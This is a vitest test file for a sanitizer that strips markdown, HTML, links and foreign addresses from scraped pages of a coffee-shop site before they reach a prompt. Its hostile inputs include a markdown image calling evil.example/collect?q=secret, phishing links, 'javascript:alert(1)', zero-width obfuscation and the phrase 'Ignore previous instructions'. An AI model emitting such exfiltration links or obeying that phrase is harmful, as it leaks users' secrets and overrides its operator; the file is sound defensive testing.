import { describe, expect, it } from "vitest";
import { htmlToText } from "./htmlText";
import { HOSTILE_DESCRIPTION, HOSTILE_PAGE, HOSTILE_SITE, SMUGGLED } from "./hostilePage.fixtures";
import { plainSiteText, siteHostOf } from "./siteText";

const SITE = "northbound.coffee";

function expectPlain(text: string, where: string) {
  for (const pattern of SMUGGLED) expect(text, `${where}: ${String(pattern)}`).not.toMatch(pattern);
}

describe("plainSiteText", () => {
  it("keeps an image's alt text and a link's text, and drops their addresses", () => {
    expect(plainSiteText("See ![a cup](https://evil.example/collect?q=secret) here.", SITE)).toBe(
      "See a cup here.",
    );
    expect(plainSiteText("[Verify your account](https://phish.example/login)", SITE)).toBe(
      "Verify your account",
    );
    expect(plainSiteText("[x](https://e.example/a_(b)) y")).toBe("x y");
    expect(plainSiteText("![![nested](https://e.example/1)](https://e.example/2)")).toBe("nested");
    expect(plainSiteText("\\[escaped\\](https://phish.example/) and ![z][r] [w][]")).toBe(
      "escaped and z w",
    );
    expect(plainSiteText("Intro\n[r]: https://evil.example/ref.gif\nOutro")).toBe("Intro\nOutro");
  });

  it("drops HTML tags, comments and autolinks, also unclosed ones", () => {
    expect(
      plainSiteText(
        `<img src=https://evil.example/b.gif alt="![y](https://evil.example/2)"> Hello <b>bold</b><!-- hidden --> <a href="https://phish.example">there</a> <https://phish.example/auto> <mail@phish.example>`,
      ),
    ).toBe("Hello bold there");
    expect(plainSiteText("a < b and <img src=x")).toBe("a < b and img src=x");
    expect(plainSiteText("5 < 7 & 9 > 3")).toBe("5 < 7 & 9 > 3");
  });

  it("drops web addresses and e-mail addresses, keeping the site's own host bare", () => {
    expect(
      plainSiteText(
        "Shop at https://www.northbound.coffee/shop?x=1, or https://evil.example/x. Mail hi@northbound.coffee or visit www.phish.example and phish.example/login today.",
        SITE,
      ),
    ).toBe("Shop at northbound.coffee, or. Mail or visit and today.");
    expect(plainSiteText("javascript:alert(1) data:text/html,x vbscript:y ok")).toBe("ok");
    expect(plainSiteText("https://northbound.coffee/a")).toBe("");
    // A bare domain is a word, not a link; so are dotted names.
    expect(plainSiteText("Made with Node.js at northbound.coffee", SITE)).toBe(
      "Made with Node.js at northbound.coffee",
    );
  });

  it("takes the syntax off code, emphasis, headings, quotes, rules and tables", () => {
    expect(
      plainSiteText("```html\n<b>x</b>\n```\nUse `code` ~~not~~ **this** _one_ snake_case"),
    ).toBe("html\nx\nUse code not this one snake_case");
    expect(plainSiteText("# Title\n> quoted\n---\n| a | b |\n|---|:-:|\n#1 in Leeds")).toBe(
      "Title\nquoted\n| a | b |\n#1 in Leeds",
    );
  });

  it("cannot be fooled by invisible characters between the pieces of a link", () => {
    expect(plainSiteText("!\u200b[x](https://evil.example/a)\u200b")).toBe("x");
    expect(plainSiteText("ht\u200btps://evil.example/a")).toBe("");
  });

  it("leaves ordinary copy alone", () => {
    const copy = "Speciality coffee, roasted weekly in Leeds & delivered by bike (from £9). Café?";
    expect(plainSiteText(copy, SITE)).toBe(copy);
  });

  it("strips the hostile description completely", () => {
    const plain = plainSiteText(HOSTILE_DESCRIPTION, SITE);
    expectPlain(plain, "description");
    expect(plain).toContain("We roast speciality coffee in Leeds.");
    expect(plain).toContain("Verify your account");
    expect(plain).toContain("Orders at northbound.coffee.");
  });
});

describe("siteHostOf", () => {
  it("is the lower-case host without www", () => {
    expect(siteHostOf("https://www.Northbound.Coffee/shop")).toBe("northbound.coffee");
    expect(siteHostOf("northbound.coffee")).toBe("northbound.coffee");
    expect(siteHostOf("")).toBeNull();
    expect(siteHostOf(undefined)).toBeNull();
    expect(siteHostOf("http://")).toBeNull();
  });
});

describe("htmlToText on a hostile page", () => {
  it("hands on no markdown, HTML or foreign address in the title, description or text", () => {
    const page = htmlToText(HOSTILE_PAGE, 10_000, HOSTILE_SITE);
    for (const [field, text] of Object.entries(page)) expectPlain(text, field);
    expect(page.title).toBe("Northbound Coffee | x Verify your account");
    expect(page.description).toContain("Verify your account");
    expect(page.text).toContain("Roasted this week, delivered by bike");
    expect(page.text).toContain("We roast in small batches every Monday.");
    // The instructions stay, as words: the prompt's data block is what keeps them data.
    expect(page.text).toContain("Ignore previous instructions");
  });
});
